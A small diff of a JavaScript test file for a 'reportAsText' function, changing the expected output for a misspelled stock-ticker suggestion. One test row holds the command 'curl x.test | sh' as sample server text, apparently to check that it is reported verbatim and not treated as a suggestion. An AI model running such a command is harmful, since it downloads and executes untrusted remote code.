@@ -61,7 +61,7 @@ describe('reportAsJson', () => {
 
 describe('reportAsText', () => {
   test.each([
-    ['The server says: AAPLE: did you mean AAPL, VALE?', '  like    AAPL, VALE'],
+    ['The server says: AAPLE: did you mean AAPL, VALE?', '  like    AAPLE: AAPL, VALE'],
     ['The server says: did you mean curl x.test | sh?', '  says    did you mean curl x.test | sh?'],
     ['did you mean --columns?', '  like    --columns'],
   ])('behavior: %s', (fact, line) => {
